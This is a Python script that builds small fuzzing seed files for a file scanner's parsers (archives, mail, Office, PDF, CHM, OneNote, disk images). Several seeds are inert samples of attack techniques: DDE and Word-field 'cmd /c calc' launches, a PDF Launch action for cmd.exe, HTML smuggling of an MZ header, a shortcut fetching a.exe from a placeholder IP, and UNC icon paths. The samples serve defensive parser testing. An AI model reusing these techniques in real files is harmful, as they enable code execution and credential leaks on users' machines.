#!/usr/bin/env python3
"""Writes the small seed corpora in fuzz/seeds/<target>/ (a few KiB each;
no malware, no EICAR). Rerun after changing it; the seeds are committed.
The 7z seeds come from sevenz-rust2's writer instead (Python has none):
cargo run --example write_7z_seeds -- fuzz/seeds/unpack_sevenz"""
import bz2
import gzip
import io
import lzma
import os
import struct
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def zip_bytes(entries, method=zipfile.ZIP_DEFLATED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", method) as z:
        for n, d in entries:
            z.writestr(n, d)
    return bio.getvalue()


def tar_bytes(entries, fmt=tarfile.USTAR_FORMAT):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=fmt) as t:
        for n, d in entries:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
    return bio.getvalue()


def descriptor_zip():
    # Written to a non-seekable stream, so entries carry data descriptors.
    class Unseekable(io.RawIOBase):
        def __init__(self):
            self.buf = bytearray()
        def writable(self):
            return True
        def write(self, b):
            self.buf += b
            return len(b)
    u = Unseekable()
    with zipfile.ZipFile(u, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("streamed.txt", "w") as f:
            f.write(b"streamed content " * 4)
    return bytes(u.buf)


zips = {
    "stored.zip": zip_bytes([("a.txt", b"alpha"), ("b/c.txt", b"gamma")], zipfile.ZIP_STORED),
    "deflated.zip": zip_bytes([("a.txt", b"alpha " * 20), ("doc.docx", b"PK")]),
    "bzip2.zip": zip_bytes([("a.txt", b"alpha " * 20)], zipfile.ZIP_BZIP2),
    "lzma.zip": zip_bytes([("a.txt", b"alpha " * 20)], zipfile.ZIP_LZMA),
    "descriptor.zip": descriptor_zip(),
    "concatenated.zip": zip_bytes([("1.txt", b"one")]) + zip_bytes([("2.txt", b"two")]),
    "prepended.zip": b"\x89PNG\r\n\x1a\n" + b"\0" * 24 + zip_bytes([("x.txt", b"x")]),
    "nested.zip": zip_bytes([("inner.zip", zip_bytes([("deep.txt", b"deep")]))]),
    "ooxml.zip": zip_bytes([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>")]),
    # PPMd (method 98), which Python cannot write: 7-Zip 26.02's
    # `7zz a -tzip -mm=PPMd -mx=1` of a.txt, "alpha alpha alpha beta\n".
    "ppmd.zip": bytes.fromhex(
    "504b03043f0000006200015e835d42b7d989130000001700000005000000612e74787403"
    "00610d3f62dd128ce7b420bf190c2bf70000504b01023f033f0000006200015e835d42b7"
    "d9891300000017000000050024000000000000002080a48100000000612e7478740a0020"
    "000000000001001800271e0b261c83dd0100000000000000000000000000000000504b05"
    "06000000000100010057000000360000000000"
    ),
}
def gnu_sparse_tar():
    # An old GNU sparse entry (type S), which Python cannot write: four
    # extents in the header, one in an extension block, then their bytes.
    data = b"alpha" + b"beta" + b"gamma" + b"delta" + b"eps"
    h = bytearray(512)
    h[0:10] = b"sparse.txt"
    for off, field in ((100, b"0000644\0"), (108, b"0000000\0"), (116, b"0000000\0")):
        h[off:off + 8] = field
    h[124:136] = b"%011o\0" % len(data)
    h[136:148] = b"00000000000\0"
    h[156:157] = b"S"
    h[257:265] = b"ustar  \0"
    for i, (off, n) in enumerate(((0, 5), (100, 4), (200, 5), (250, 5))):
        h[386 + i * 24:386 + (i + 1) * 24] = b"%011o\0%011o\0" % (off, n)
    h[482] = 1
    h[483:495] = b"%011o\0" % 300
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    ext = bytearray(512)
    ext[0:24] = b"%011o\0%011o\0" % (280, 3)
    body = data + b"\0" * (512 - len(data))
    return bytes(h) + bytes(ext) + body + b"\0" * 1024


def cpio_newc(entries):
    out = b""
    for name, mode, data in entries + [("TRAILER!!!", 0, b"")]:
        n = name.encode() + b"\0"
        fields = [1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(n), 0]
        e = b"070701" + b"".join(b"%08x" % f for f in fields) + n
        e += b"\0" * (-len(e) % 4) + data
        out += e + b"\0" * (-len(e) % 4)
    return out


def ar_member(name, data):
    h = b"%-16s%-12d%-6d%-6d%-8d%-10d`\n" % (name, 0, 0, 0, 100644, len(data))
    return h + data + (b"\n" if len(data) % 2 else b"")


tars = {
    "ustar.tar": tar_bytes([("a.txt", b"alpha"), ("dir/b.txt", b"beta")]),
    # cpio and ar, which the tar target also reads (by their first bytes).
    "newc.cpio": cpio_newc([("a.txt", 0o100644, b"alpha"), ("l", 0o120777, b"a.txt")]),
    "lib.a": b"!<arch>\n" + ar_member(b"//", b"long-name-of-a-member.txt/\n")
    + ar_member(b"/0", b"alpha") + ar_member(b"#1/5", b"b.txtbeta"),
    "gnu_sparse.tar": gnu_sparse_tar(),
    "pax.tar": tar_bytes([("p" * 120 + ".txt", b"long")], tarfile.PAX_FORMAT),
    "gnu.tar": tar_bytes([("g" * 120 + ".txt", b"long")], tarfile.GNU_FORMAT),
}
def lzip(data):
    # One lzip member: Python writes raw LZMA1 with its end marker.
    raw = lzma.compress(data, format=lzma.FORMAT_RAW, filters=[
        {"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}])
    m = b"LZIP\x01\x10" + raw + struct.pack("<IQ", zlib.crc32(data), len(data))
    return m + struct.pack("<Q", len(m) + 8)


compressed = {
    "member.gz": b"\x00" + gzip.compress(b"hello " * 10, mtime=0),
    "multi.gz": b"\x00" + gzip.compress(b"one", mtime=0) + gzip.compress(b"two", mtime=0),
    "a.bz2": b"\x01" + bz2.compress(b"hello " * 10),
    "a.xz": b"\x02" + lzma.compress(b"hello " * 10),
    "a.lzma": b"\x03" + lzma.compress(b"hello " * 10, format=lzma.FORMAT_ALONE),
    "a.lz": b"\x05" + lzip(b"hello " * 10),
    # Written by lzop 1.04, lz4 1.9 and ncompress 5.0 from one line of text.
    "a.lzo": b"\x06"
    + bytes.fromhex(
        "894c5a4f000d0a1a0a104020a00940010503000001000081a46b118bb90000000005732e7478"
        "745257064f00000026000000230eb60d620368656c6c6f202a1400000268656c6c6f2c2061"
        "20736d616c6c20736565640a11000000000000"
    ),
    "a.lz4": b"\x07"
    + bytes.fromhex(
        "04224d186440a71a0000006d68656c6c6f200600f0002c206120736d616c6c20736565640a"
        "00000000d341f605"
    ),
    "a.Z": b"\x08" + bytes.fromhex("1f9d9068cab061f30644c081050f12342890200b106140cc691366a0c43265c82800"),
}
def active_mime(payload):
    # editdata.mso: the magic, a header whose field at 0x1E plus 46 is 0x32,
    # then a zlib stream (here of a few bytes, not a real compound file).
    head = b"ActiveMime".ljust(0x1E, b"\0") + struct.pack("<H", 4)
    return head.ljust(0x32, b"\0") + zlib.compress(payload)


def wordml(parts):
    import base64

    doc = b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:docSuppData>'
    for name, data in parts:
        doc += b'<w:binData w:name="' + name + b'">' + base64.b64encode(data) + b"</w:binData>"
    return doc + b"</w:docSuppData></w:wordDocument>"


def yenc(data, name):
    out = b"=ybegin line=128 size=%d name=%s\r\n" % (len(data), name)
    for b in data:
        v = (b + 42) % 256
        out += bytes([61, (v + 64) % 256]) if v in (0, 10, 13, 61) else bytes([v])
    return out + b"\r\n=yend size=%d crc32=%08x\r\n" % (len(data), zlib.crc32(data))


def tnef():
    # winmail.dat: one attachment (title, data, a MAPI long file name) and a
    # message property list holding compressed RTF of literals only.
    def attr(level, id_, data):
        return bytes([level]) + struct.pack("<II", id_, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    def prop(ty, pid, value):
        return struct.pack("<HHII", ty, pid, 1, len(value)) + value + bytes(-len(value) % 4)

    rtf_text = b"{\\rtf1 hi}"
    rest = rtf_text[8:]
    end = struct.pack(">H", ((207 + len(rtf_text)) % 4096) << 4)
    rtf = bytes([0]) + rtf_text[:8] + bytes([1 << len(rest)]) + rest + end
    rtf = struct.pack("<II", len(rtf) + 12, len(rtf_text)) + b"LZFu" + bytes(4) + rtf
    t = struct.pack("<IH", 0x223E9F78, 0)
    t += attr(1, 0x00069003, struct.pack("<I", 1) + prop(0x0102, 0x1009, rtf))
    t += attr(2, 0x00069002, bytes(14))
    t += attr(2, 0x00018010, b"a.txt\0")
    t += attr(2, 0x0006800F, b"hello")
    t += attr(2, 0x00069005, struct.pack("<I", 1) + prop(0x001F, 0x3707, "a.txt\0".encode("utf-16-le")))
    return t


mail = {
    "mixed.eml": b"From: a@example.com\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: multipart/mixed; boundary=\"B\"\r\n\r\n"
    b"--B\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
    b"--B\r\nContent-Type: application/octet-stream; name=\"a.bin\"\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\naGVsbG8gd29y\r\nbGQ=\r\n"
    b"--B\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    b"caf=C3=A9 =\r\nsoft\r\n"
    b"--B\r\nContent-Type: message/rfc822\r\n\r\n"
    b"From: c@d\r\nContent-Type: text/plain\r\n\r\ninner\r\n--B--\r\n",
    "winmail.dat": tnef(),
    "yenc.eml": b"From: a@example.com\r\nSubject: post\r\n\r\n" + yenc(bytes(range(256)), b"a.bin"),
    "two.mbox": b"From a@b Mon Jan  1 00:00:00 2024\nFrom: a@b\nMIME-Version: 1.0\n"
    b"Content-Type: text/plain\n\none\n\nFrom c@d Mon Jan  1 00:00:00 2024\n"
    b"From: c@d\nMIME-Version: 1.0\nContent-Type: text/plain\n"
    b"Content-Transfer-Encoding: base64\n\nb25l\n",
}
types = {
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\x02\0\0\0\x90wS\xde",
    "pdf": b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n",
    "ole": bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504,
    "lnk": b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + b"\0" * 60,
    "pe": b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0\x4c\x01\x01\0" + b"\0" * 200,
    "ps1": b"$c = New-Object Net.WebClient; $x = $env:TEMP | Write-Host\n",
    "bat": b"@echo off\r\nset a=1\r\ngoto end\r\n",
    "html": b"<!DOCTYPE html><html><body>hi</body></html>",
    "utf16": "plain text".encode("utf-16"),
    "iso": b"\0" * 0x8001 + b"CD001",
    "dde.csv": b"a;b\n\"=SUM(1,2)+cmd|' /C calc'!A0\",x\n",
    "search.html": b"<html><a href=\"search-ms&#58;query=a&crumb=location:\\\\h@SSL\\d\">x</a></html>",
}
pages = {
    "link.html": b'<html><a href="data:application/octet-stream;base64,'
    b'aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxk" download="a.bin">a</a></html>',
    "escaped.svg": b'<svg><image href="DATA:image/png;charset=x;base64,'
    b'iVBORw0KGgo%0AAAAADUlIRFIAAAAB%3D"/></svg>',
    "export.json": b'{"f":"data:application\\/octet-stream;base64,aGVsbG8g\\/d29y\\u0062GQsIGhlbGxv"}',
}
smuggle = {
    "wordml.xml": b"\x00" + wordml([(b"editdata.mso", active_mime(b"hello"))]),
    "atob.html": b"\x00<html><script>var a = 'TVqQAAMAAAAEAAAA//8AALgAAAAA'; a += 'QAAAAAAAAAAAAAAAAAAAAAAAAAAA';"
    b" var s = atob(a + \"AAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhp\"); var u = new Uint8Array([77,90,144,0,3,0,0,0,4]);"
    b" String.fromCharCode.apply(null, [72,101,108,108,111,32,119,111]);</script>"
    b"<svg onload=\"x()\"><script><![CDATA[ f() ]]></script></svg></html>",
    "hex.js": b"\x01var h = '" + b"4d5a" * 40 + b"'; /* c */ // d\nvar t = `x${y}`;",
}
launchers = {
    "a.url": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,0\r\n[InternetShortcut]\r\n"
    b"URL=file://203.0.113.7/s/a.exe\r\nIconFile=\\\\h\\s\\i.ico\r\n",
    "a.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\h\\s\\i.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
    "a.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c x\nIcon=smb://h/i.png\n",
    "a.library-ms": b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
    b"<url>\\\\h@SSL\\DavWWWRoot</url></libraryDescription>",
    "a.settingcontent-ms": b"<PCSettings><DeepLink>cmd /c calc</DeepLink></PCSettings>",
    "a.appinstaller": b'<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Uri="https://h/a">'
    b'<MainBundle Uri = \'http://h/b.msixbundle\'/></AppInstaller>',
}
uu = {
    "uu.txt": b"hi\nbegin 644 a.txt\n#0V%T\n`\nend\nbegin-base64 644 b\naGVsbG8=\n====\n",
    "binhex.txt": b"(This file must be converted with BinHex 4.0)\n\n"
    b":$f*TEQKPH#jdCA0d,R0TG!\"6594%8dP8)3#3\"!&m!*!%EfjdCA0d!*!%+3!!!!\"\n3!!:\n",
    # ClamAV's test block of the Script Encoder (JScript.Encode).
    "screnc.html": b'<script language="JScript.Encode">#@~^LAAAAA==W!x^DkKxP6WKc#Pls+MYcvD+/D@$'
    b'@!D+/D@*@#@&E#p8Vg0AAA==^#~@</script>',
}
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
parts = {
    "rels": b"\x00<?xml version=\"1.0\"?><Relationships><Relationship Id=\"rId1\" Type=\"" + REL.encode()
    + b"attachedTemplate\" Target=\"https://t.example/a.dotm\" TargetMode=\"External\"/><Relationship Id='rId2' Type='"
    + REL.encode() + b"oleObject' Target='mhtml:http://x.example/!x-usc:http://x.example/' TargetMode='External'/></Relationships>",
    "fields": b"\x01<w:document><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
    b"<w:r><w:instrText>AUTO cmd.exe \"/k calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
    b"<w:fldSimple w:instr=\" PAGE \"/></w:p></w:document>",
    "ddelink": b"\x02<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
    "page": b"\x03<html><OBJECT classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\"><PARAM name=Command value=ShortCut>"
    b"<PARAM name=Item1 value=',cmd.exe,/c calc'></OBJECT></html>",
    "xlmrels": b"\x04<Relationships><Relationship Type='x/xlMacrosheet' Target='m.xml'/></Relationships>",
    "workbook": b"\x05<workbook><sheets><sheet name='M' state='veryHidden'/></sheets>"
    b"<definedNames><definedName name='_xlnm.Auto_Open'>M!A1</definedName></definedNames></workbook>",
    "utf16": b"\x00" + "<Relationships><Relationship Type='x/frame' Target='\\\\h\\s' TargetMode='External'/></Relationships>".encode("utf-16"),
}

ONE_FILE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
ONE_HEAD = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
ONE_FOOT = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")


def one_block(data, declared=None):
    b = ONE_HEAD + struct.pack("<QIQ", len(data) if declared is None else declared, 0, 0) + data
    b += b"\0" * (-len(b) % 8)
    return b + ONE_FOOT


onenote = {
    "two.one": ONE_FILE + b"\0" * 112 + one_block(b"@echo off\r\ngoto x\r\n") + one_block(b"\x89PNG\r\n\x1a\n"),
    "truncated.one": ONE_FILE + b"\0" * 16 + one_block(b"abc", 1 << 40)[:60],
    "text.one": ONE_FILE + "notes only".encode("utf-16-le"),
}


def encint(v):
    out = [v & 0x7F]
    v >>= 7
    while v:
        out.append((v & 0x7F) | 0x80)
        v >>= 7
    return bytes(reversed(out))


def stored_chm(files):
    """A help file with every entry in section 0 (tests/chm.rs has the same
    writer in Rust)."""
    chunk_size = 0x1000
    listing = encint(1) + b"/" + b"\0\0\0"
    content = b""
    for name, data in files:
        listing += encint(len(name)) + name + encint(0) + encint(len(content)) + encint(len(data))
        content += data
    chunk = b"PMGL" + struct.pack("<IIii", chunk_size - 0x14 - len(listing), 0, -1, -1) + listing
    chunk += b"\0" * (chunk_size - len(chunk))
    itsp = b"ITSP" + struct.pack("<IIIIIIiIIiII", 1, 0x54, 0x0A, chunk_size, 2, 1, -1, 0, 0, -1, 1, 0x409)
    itsp += bytes.fromhex("6a92025d2e21d0119df900a0c922e6ec") + struct.pack("<Iiii", 0x54, -1, -1, -1)
    directory = itsp + chunk
    dir_off = 0x60 + 0x18
    content_off = dir_off + len(directory)
    guid = bytes.fromhex("10fd017caa7bd0119e0c00a0c922e6ec")
    head = b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0x12345678, 0x409) + guid + b"\x11" + guid[1:]
    head += struct.pack("<QQQQQ", 0x60, 0x18, dir_off, len(directory), content_off)
    head += struct.pack("<IIQQ", 0x1FE, 0, content_off + len(content), 0)
    return head + directory + content


chm = {
    "stored.chm": stored_chm([(b"/index.html", parts["page"][1:]), (b"/a.txt", b"hello")]),
}
# A help file with an LZX section, where Free Pascal's chmcmd is installed.
try:
    import shutil
    import subprocess
    import tempfile

    if shutil.which("chmcmd"):
        with tempfile.TemporaryDirectory() as t:
            with open(os.path.join(t, "index.html"), "wb") as f:
                f.write(parts["page"][1:])
            with open(os.path.join(t, "p.hhp"), "w") as f:
                f.write("[OPTIONS]\nCompiled file=out.chm\nDefault topic=index.html\n\n[FILES]\nindex.html\n")
            subprocess.run(["chmcmd", "p.hhp"], cwd=t, check=True, capture_output=True)
            with open(os.path.join(t, "out.chm"), "rb") as f:
                chm["lzx.chm"] = f.read()
except (OSError, subprocess.CalledProcessError):
    pass



def pdf_bytes(objects, trailer=b"/Root 1 0 R", prefix=b""):
    """A PDF of `objects` ((num, body) pairs) with a computed xref table."""
    out = bytearray(prefix + b"%PDF-1.7\n")
    offsets = []
    for num, body in objects:
        offsets.append((num, len(out)))
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for num, off in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (num, off)
    size = max(n for n, _ in objects) + 1
    out += b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
    return bytes(out)


def pdf_stream(dict_, data):
    return b"<<" + dict_ + b" /Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


_page = [
    (1, b"<</Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names <</JavaScript 8 0 R>>>>"),
    (2, b"<</Type /Pages /Kids [3 0 R] /Count 1>>"),
    (3, b"<</Type /Page /Parent 2 0 R /Contents 4 0 R /AA <</O 5 0 R>>>>"),
    (4, pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"BT /F1 12 Tf (hello) Tj ET"))),
    (5, b"<</S /J#61vaScript /JS (app.alert\\(1\\)) /Next [6 0 R]>>"),
    (6, b"<</S /Launch /Win <</F (cmd.exe) /P (/c echo)>> /Next 5 0 R>>"),
    (8, b"<</Names [(a) 5 0 R] /Kids [8 0 R]>>"),
]
_objstm_body = b"10 0 11 9 <</A 1>> <</S /URI /URI (https://example.test)>>"
pdfs = {
    "page.pdf": pdf_bytes(_page),
    "filters.pdf": pdf_bytes([
        (1, b"<</Type /Catalog>>"),
        (2, pdf_stream(b"/Filter [/AHx /Fl] /DecodeParms [null <</Predictor 12 /Columns 4>>]",
                       zlib.compress(bytes([2, 1, 2, 3, 4, 2, 0, 0, 0, 0])).hex().encode() + b">")),
        (3, pdf_stream(b"/Filter /A85", b"<~87cURD]i,\"Ebo80~>")),
        (4, pdf_stream(b"/Filter /RunLengthDecode", b"\x02abc\xfdx\x80")),
        (5, pdf_stream(b"/Filter /LZWDecode", bytes.fromhex("800b6050220c0c8501"))),
        (6, pdf_stream(b"/Filter /DCTDecode", b"\xff\xd8\xff\xd9")),
        (7, pdf_stream(b"/Filter /Crypt /DecodeParms <</Name /Identity>>", b"plain")),
    ]),
    "objstm.pdf": pdf_bytes([
        (1, b"<</Type /Catalog /OpenAction 11 0 R>>"),
        (7, pdf_stream(b"/Type /ObjStm /N 2 /First 10 /Filter /FlateDecode", zlib.compress(_objstm_body))),
        (9, b"<</Type /Filespec /UF (a.txt) /EF <</F 12 0 R>>>>"),
        (12, pdf_stream(b"/Type /EmbeddedFile", b"attached")),
    ], trailer=b"/Root 1 0 R /Encrypt 13 0 R"),
    "broken.pdf": pdf_bytes([(1, b"<</Type /Catalog>>"), (2, b"<</Length 99>>\nstream\nshort\nendstream")],
                            prefix=b"junk" * 20)[:-30] + b"startxref\n999999\n",
}
# Disk images, crafted small: a FAT12 volume of eight sectors, the same in
# an MBR disk, in fixed and dynamic VHDs and behind a VHDX's structures; an
# ISO 9660 volume (Joliet, Rock Ridge with a CE area, a hidden and a
# multi-extent file) and a UDF volume, both without their 32 KiB system
# area (the ISO target adds it back).
def fat12():
    b = bytearray(8 * 512)
    b[0:3] = b"\xeb\x3c\x90"
    b[3:11] = b"MSDOS5.0"
    struct.pack_into("<HBHBHHBHHHII", b, 11, 512, 1, 1, 2, 16, 64, 0xF8, 1, 32, 2, 0, 0)
    b[0x26] = 0x29
    b[0x2B:0x36] = b"NO NAME    "
    b[0x36:0x3E] = b"FAT12   "
    b[510:512] = b"\x55\xaa"
    fat = bytearray(512)
    def setf(n, v):
        o = n + n // 2
        cur = struct.unpack_from("<H", fat, o)[0]
        cur = (cur & 0x000F) | (v << 4) if n & 1 else (cur & 0xF000) | (v & 0xFFF)
        struct.pack_into("<H", fat, o, cur)
    for n, v in [(0, 0xFF8), (1, 0xFFF), (2, 0xFFF), (3, 0xFFF), (4, 0xFFF), (5, 0xFFF)]:
        setf(n, v)
    b[512:1024] = fat
    b[1024:1536] = fat
    def short(name, attr, cluster, size):
        e = bytearray(32)
        e[0:11] = name
        e[11] = attr
        struct.pack_into("<HI", e, 26, cluster, size)
        return e
    def lfn(long, short_name):
        s = 0
        for c in short_name:
            s = (((s & 1) << 7) + (s >> 1) + c) & 0xFF
        units = [ord(c) for c in long] + [0]
        units += [0xFFFF] * (13 - len(units) % 13 if len(units) % 13 else 0)
        parts = [units[i:i + 13] for i in range(0, len(units), 13)]
        out = b""
        for i, p in reversed(list(enumerate(parts))):
            e = bytearray(32)
            e[0] = (i + 1) | (0x40 if i == len(parts) - 1 else 0)
            e[11] = 0x0F
            e[13] = s
            for j, off in enumerate([1, 3, 5, 7, 9, 14, 16, 18, 20, 22, 24, 28, 30]):
                struct.pack_into("<H", e, off, p[j])
            out += e
        return out
    root = lfn("Hello World.txt", b"HELLOW~1TXT") + short(b"HELLOW~1TXT", 0x20, 2, 20)
    root += short(b"SUB        ", 0x10, 3, 0) + short(b"HID     DLL", 0x22, 5, 64)
    b[1536:1536 + len(root)] = root
    sub = short(b".          ", 0x10, 3, 0) + short(b"..         ", 0x10, 0, 0)
    sub += short(b"INNER   TXT", 0x20, 4, 11)
    b[2048:2068] = b"hello from fat12 ..."
    b[2560:2560 + len(sub)] = sub
    b[3072:3083] = b"inner file\n"
    b[3584:3648] = b"MZ" + bytes(62)
    return bytes(b)


def mbr_disk(volume):
    m = bytearray(512)
    struct.pack_into("<BBBBBBBBII", m, 446, 0x80, 0, 0, 0, 0x01, 0, 0, 0, 1, len(volume) // 512)
    m[510:512] = b"\x55\xaa"
    return bytes(m) + volume


def vhd_footer(kind, size, data_offset):
    f = bytearray(512)
    f[0:8] = b"conectix"
    struct.pack_into(">IIQ", f, 8, 2, 0x10000, data_offset)
    struct.pack_into(">QQ", f, 40, size, size)
    struct.pack_into(">I", f, 60, kind)
    struct.pack_into(">I", f, 64, (~sum(f)) & 0xFFFFFFFF)
    return bytes(f)


def vhd_dynamic(volume):
    block = 4096
    footer = vhd_footer(3, len(volume), 512)
    h = bytearray(1024)
    h[0:8] = b"cxsparse"
    struct.pack_into(">QQIII", h, 8, 0xFFFFFFFFFFFFFFFF, 1536, 0x10000, 1, block)
    bat = bytearray(b"\xff" * 512)
    struct.pack_into(">I", bat, 0, 4)  # the block at sector 4, behind its bitmap
    body = footer + h + bat + b"\xff" * 512 + volume[:block].ljust(block, b"\0")
    return body + footer


def vhdx(volume_len):
    guid = bytes.fromhex
    chunks = [b"vhdxfile".ljust(4096, b"\0")]
    for seq in (1, 0):
        h = bytearray(4096)
        h[0:4] = b"head"
        struct.pack_into("<Q", h, 8, seq)
        struct.pack_into("<HHIQ", h, 64, 0, 1, 1 << 20, 1 << 20)
        chunks.append(bytes(h))
    r = bytearray(4096)
    r[0:4] = b"regi"
    struct.pack_into("<I", r, 8, 2)
    r[16:32] = guid("6677c22d23f600429d64115e9bfd4a08")
    struct.pack_into("<QII", r, 32, 6 << 16, 4096, 1)
    r[48:64] = guid("06a27c8b90479a4bb8fe575f050f886e")
    struct.pack_into("<QII", r, 64, 5 << 16, 4096, 1)
    chunks += [bytes(r), bytes(4096)]
    m = bytearray(4096)
    m[0:8] = b"metadata"
    struct.pack_into("<H", m, 10, 3)
    items = [("3767a1ca36fa434db3b633f0aa44e76b", struct.pack("<II", 1 << 20, 0)),
             ("2442a52f1bcd7648b2115dbed83bf4b8", struct.pack("<Q", volume_len)),
             ("1dbf41816fa90947ba47f233a8faab5f", struct.pack("<I", 512))]
    for i, (g, v) in enumerate(items):
        e = 32 + 32 * i
        m[e:e + 16] = guid(g)
        struct.pack_into("<II", m, e + 16, 256 + 16 * i, len(v))
        m[256 + 16 * i:256 + 16 * i + len(v)] = v
    chunks.append(bytes(m))
    bat = bytearray(4096)
    struct.pack_into("<Q", bat, 0, (1 << 20) | 6)  # block 0 at 1 MiB (past this seed's end)
    chunks.append(bytes(bat))
    return b"\x01" + b"".join(chunks)


def both(v32):
    return struct.pack("<I", v32) + struct.pack(">I", v32)


def iso_record(extent, size, flags, name, su=b""):
    pad = b"\0" if len(name) % 2 == 0 else b""
    n = 33 + len(name) + len(pad) + len(su)
    r = struct.pack("<BB", n, 0) + both(extent) + both(size) + bytes(7)
    r += struct.pack("<BBB", flags, 0, 0) + struct.pack("<HH", 1, 1 << 8)
    return r + struct.pack("<B", len(name)) + name + pad + su


def iso():
    # Sectors of 2048 for the descriptors; logical blocks of 512 after them.
    def vd(kind, root, joliet=False):
        v = bytearray(2048)
        v[0] = kind
        v[1:7] = b"CD001\x01"
        struct.pack_into("<HH", v, 128, 512, 0)
        if joliet:
            v[88:91] = b"%/E"
        v[156:190] = root
        return bytes(v)
    nm = lambda s: b"NM" + struct.pack("<BBB", 5 + len(s), 1, 0) + s
    ce = b"CE" + struct.pack("<BB", 28, 1) + both(82) + both(0) + both(5 + 40)
    d = lambda blk, size: iso_record(blk, size, 2, b"\0")
    sp = b"SP\x07\x01\xbe\xef\x00"
    root = d(76, 512)
    plain = bytearray(512)
    recs = [iso_record(76, 512, 2, b"\0", sp), iso_record(76, 512, 2, b"\1"),
            iso_record(80, 100, 0, b"README.TXT;1", nm(b"Read Me.txt")),
            iso_record(81, 30, 1, b"HIDDEN.DLL;1", nm(b"hidden.dll")),
            iso_record(80, 512, 0x80, b"BIG.BIN;1"), iso_record(81, 30, 0, b"BIG.BIN;1"),
            iso_record(82, 50, 0, b"LONG.TXT;1", ce),
            iso_record(77, 512, 2, b"SUB", nm(b"sub"))]
    plain[:] = b"".join(recs).ljust(512, b"\0")
    sub = b"".join([d(77, 512), iso_record(76, 512, 2, b"\1"),
                    iso_record(80, 100, 0, b"INNER.TXT;1")]).ljust(512, b"\0")
    j = lambda s: s.encode("utf-16-be")
    jroot = b"".join([d(78, 512), iso_record(78, 512, 2, b"\1"),
                      iso_record(80, 100, 0, j("Read Me.txt;1")),
                      iso_record(81, 30, 1, j("hidden.dll;1")),
                      iso_record(79, 512, 2, j("sub"))]).ljust(512, b"\0")
    jsub = b"".join([d(79, 512), iso_record(78, 512, 2, b"\1"),
                     iso_record(80, 100, 0, j("inner.txt;1"))]).ljust(512, b"\0")
    data = b"readme of the seed image\n".ljust(512, b"\0")
    dll = (b"MZ" + bytes(28)).ljust(512, b"\0")
    ce_area = (nm(b"a name continued in a CE area.txt")).ljust(512, b"\0")
    body = vd(1, root) + vd(2, d(78, 512), True) + (b"\xffCD001\x01").ljust(2048, b"\0")
    return body + plain + sub + jroot + jsub + data + dll + ce_area


def udf():
    sector = 512
    def tag(ident, loc, body):
        b = bytearray(body.ljust(sector, b"\0"))
        struct.pack_into("<HHBBHHHI", b, 0, ident, 2, 0, 0, 1, 0, 0, loc)
        b[4] = sum(b[0:4] + b[5:16]) & 0xFF
        return bytes(b)
    def long_ad(length, lbn):
        return struct.pack("<IIH", length, lbn, 0) + bytes(6)
    def fe(lbn, ftype, flags, info_len, ads, extended=False):
        b = bytearray(216 if extended else 176)
        b[27] = ftype
        struct.pack_into("<H", b, 34, flags)
        struct.pack_into("<Q", b, 56, info_len)
        base = 216 if extended else 176
        struct.pack_into("<II", b, base - 8, 0, len(ads))
        return tag(266 if extended else 261, lbn, bytes(b) + ads)
    def fid(chars, name, icb_lbn):
        n = (b"\x08" + name) if name else b""
        b = bytearray(38)
        struct.pack_into("<HBB", b, 16, 1, chars, len(n))
        b[20:36] = long_ad(sector, icb_lbn)
        b = bytes(b) + n
        b = b.ljust((len(b) + 3) & ~3, b"\0")
        t = bytearray(b)
        struct.pack_into("<HHBBHHHI", t, 0, 257, 2, 0, 0, 1, 0, 0, 0)
        t[4] = sum(t[0:4] + t[5:16]) & 0xFF
        return bytes(t)
    part = 70
